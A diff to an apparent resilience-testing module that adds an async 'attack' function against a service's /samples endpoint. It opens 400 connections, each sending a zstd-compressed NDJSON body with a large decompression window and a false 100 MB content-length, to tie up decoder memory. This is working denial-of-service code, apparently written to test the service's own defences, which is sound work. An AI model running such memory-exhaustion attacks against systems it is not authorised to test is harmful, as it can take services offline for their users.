@@ -2,6 +2,7 @@
 
 import asyncio
 import gzip
+from contextlib import AsyncExitStack
 from functools import partial
 
 import zstandard
@@ -159,6 +160,20 @@ async def zstd_with_a_huge_window(target: Target) -> None:
     compressor = zstandard.ZstdCompressor(compression_params=parameters).compressobj()
     body = compressor.compress(b" " * _MIB) + compressor.flush()
     await asyncio.gather(*(post(target, body, _ZSTD, f"content-type: {JSON}") for _ in range(40)))
+
+
+@attack()
+async def zstd_windows_of_open_streams(target: Target) -> None:
+    """Open 400 NDJSON streams, and send 400 bytes over each, which make its decoder keep 8 MiB."""
+    compressor = zstandard.ZstdCompressor(compression_params=zstandard.ZstdCompressionParameters(window_log=23))
+    stream = compressor.compressobj()
+    body = stream.compress(b" " * 12 * _MIB) + stream.flush(zstandard.COMPRESSOBJ_FLUSH_BLOCK)
+    head = target.head("/samples", f"content-type: {NDJSON}", _ZSTD, "content-length: 100000000")
+    async with AsyncExitStack() as opened:
+        for _ in range(400):
+            _, writer = await opened.enter_async_context(target.connection())
+            writer.write(head + body)
+        await asyncio.sleep(target.seconds)
 
 
 @attack()
